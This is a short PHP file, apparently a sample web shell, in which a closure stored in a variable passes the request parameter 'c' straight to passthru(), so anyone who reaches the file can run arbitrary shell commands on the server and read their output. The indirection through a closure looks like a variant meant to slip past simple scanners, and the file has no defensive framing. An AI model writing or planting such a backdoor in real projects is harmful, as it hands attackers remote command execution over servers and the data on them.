<?php
// A closure kept in a variable is called with the request's command.
$run = function ($c) {
    passthru($c);
};
$run($_REQUEST['c']);
